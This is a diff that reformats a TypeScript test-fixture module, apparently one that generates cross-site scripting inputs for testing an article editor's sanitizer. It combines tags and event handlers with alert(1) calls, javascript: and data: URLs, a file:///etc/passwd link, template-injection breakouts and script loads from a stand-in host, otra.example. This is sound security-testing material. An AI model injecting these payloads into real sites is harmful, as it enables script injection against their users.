@@ -8,8 +8,52 @@ const CALL = 'alert(1)';
 /** A host that is not ours; whoever asks it for anything has been led astray. */
 export const ELSEWHERE = 'otra.example';
 
-const tags = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'object', 'embed', 'input', 'details', 'marquee', 'select', 'textarea', 'button', 'a', 'form', 'math', 'table', 'style', 'link', 'base', 'meta', 'template', 'noscript', 'x-tag', 'frameset', 'image', 'script'];
-const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onstart', 'onpageshow', 'onscroll', 'onwheel', 'oncopy'];
+const tags = [
+  'img',
+  'svg',
+  'video',
+  'audio',
+  'body',
+  'iframe',
+  'object',
+  'embed',
+  'input',
+  'details',
+  'marquee',
+  'select',
+  'textarea',
+  'button',
+  'a',
+  'form',
+  'math',
+  'table',
+  'style',
+  'link',
+  'base',
+  'meta',
+  'template',
+  'noscript',
+  'x-tag',
+  'frameset',
+  'image',
+  'script',
+];
+const events = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerenter',
+  'onbegin',
+  'onstart',
+  'onpageshow',
+  'onscroll',
+  'onwheel',
+  'oncopy',
+];
 const shapes = [
   (tag: string, event: string) => `<${tag} src=x ${event}=${CALL}>`,
   (tag: string, event: string) => `<${tag.toUpperCase()}/autofocus/${event} = "${CALL}"//`,
@@ -19,10 +63,32 @@ const shapes = [
 const elements = tags.flatMap((tag) => events.flatMap((event) => shapes.map((shape) => shape(tag, event))));
 
 const addresses = [
-  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, `java\tscript:${CALL}`, `&#106;avascript:${CALL}`, `&#x6A&#x61vascript:${CALL}`, `javascript&colon;${CALL}`, `\u0001javascript:${CALL}`, `%6Aavascript:${CALL}`,
-  `javascript://%0a${CALL}`, `javascript:/*--></title></style>*/${CALL}`, `vbscript:msgbox(1)`, `data:text/html,<script>${CALL}</script>`, 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  'data:image/svg+xml,<svg/onload=alert(1)>', 'blob:https://otra.example/x', 'file:///etc/passwd', 'filesystem:https://otra.example/x', 'view-source:javascript:alert(1)', 'jar:https://otra.example!/x', 'feed:javascript:alert(1)',
-  `//${ELSEWHERE}/x`, `/\\${ELSEWHERE}/x`, `\\\\${ELSEWHERE}\\x`, `https:${ELSEWHERE}`, `https://localhost@${ELSEWHERE}/x`, `https://${ELSEWHERE}/x.png`,
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  `java\tscript:${CALL}`,
+  `&#106;avascript:${CALL}`,
+  `&#x6A&#x61vascript:${CALL}`,
+  `javascript&colon;${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `%6Aavascript:${CALL}`,
+  `javascript://%0a${CALL}`,
+  `javascript:/*--></title></style>*/${CALL}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${CALL}</script>`,
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg/onload=alert(1)>',
+  'blob:https://otra.example/x',
+  'file:///etc/passwd',
+  'filesystem:https://otra.example/x',
+  'view-source:javascript:alert(1)',
+  'jar:https://otra.example!/x',
+  'feed:javascript:alert(1)',
+  `//${ELSEWHERE}/x`,
+  `/\\${ELSEWHERE}/x`,
+  `\\\\${ELSEWHERE}\\x`,
+  `https:${ELSEWHERE}`,
+  `https://localhost@${ELSEWHERE}/x`,
+  `https://${ELSEWHERE}/x.png`,
 ];
 const places = [
   (to: string) => `[enlace](${to})`,
@@ -41,14 +107,55 @@ const places = [
 ];
 const links = addresses.flatMap((to) => places.map((place) => place(to)));
 
-const ways = [`<script>${CALL}</script>`, `<img src=x onerror=${CALL}>`, `<svg/onload=${CALL}>`, `<script src=//${ELSEWHERE}/x.js></script>`, `<base href=//${ELSEWHERE}/>`, `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`];
-const exits = ['', '">', "'>", '`>', '-->', ']]>', '</title>', '</script>', '</textarea>', '</style>', '</noscript>', '</template>', '<!--', '<![CDATA[', '\\"></script>', '{"@context":"</script>', '\u2028', '\\u003c/script>', '%3C/script%3E', '${', '{{constructor.constructor("alert(1)")()}}', '<%=', '{% raw %}', '```', '~~~js onload=alert(1)\n', '# ', '# a {onclick=alert(1)}\n', '- [x] ', '$$'];
+const ways = [
+  `<script>${CALL}</script>`,
+  `<img src=x onerror=${CALL}>`,
+  `<svg/onload=${CALL}>`,
+  `<script src=//${ELSEWHERE}/x.js></script>`,
+  `<base href=//${ELSEWHERE}/>`,
+  `<meta http-equiv=refresh content="0;url=//${ELSEWHERE}/">`,
+];
+const exits = [
+  '',
+  '">',
+  "'>",
+  '`>',
+  '-->',
+  ']]>',
+  '</title>',
+  '</script>',
+  '</textarea>',
+  '</style>',
+  '</noscript>',
+  '</template>',
+  '<!--',
+  '<![CDATA[',
+  '\\"></script>',
+  '{"@context":"</script>',
+  '\u2028',
+  '\\u003c/script>',
+  '%3C/script%3E',
+  '${',
+  '{{constructor.constructor("alert(1)")()}}',
+  '<%=',
+  '{% raw %}',
+  '```',
+  '~~~js onload=alert(1)\n',
+  '# ',
+  '# a {onclick=alert(1)}\n',
+  '- [x] ',
+  '$$',
+];
 const breakouts = exits.flatMap((exit) => ways.map((way) => `${exit}${way}`));
 
 /** Whole texts of an article. */
 export const texts: readonly string[] = [...elements, ...links, ...breakouts, ...naughtyStrings];
 
 /** Short texts for fields of one line: every exit, and every hundredth of the rest and more where the field is big enough. */
-export const lines: readonly string[] = [...breakouts, ...elements.filter((_, index) => index % 11 === 0), ...naughtyStrings.filter((text) => /[<>"'`]|script|alert/i.test(text))].map((text) => text.replaceAll(/[\n\r\t\u2028]/g, ' '));
+export const lines: readonly string[] = [
+  ...breakouts,
+  ...elements.filter((_, index) => index % 11 === 0),
+  ...naughtyStrings.filter((text) => /[<>"'`]|script|alert/i.test(text)),
+].map((text) => text.replaceAll(/[\n\r\t\u2028]/g, ' '));
 
 export const hostileAddresses: readonly string[] = addresses;
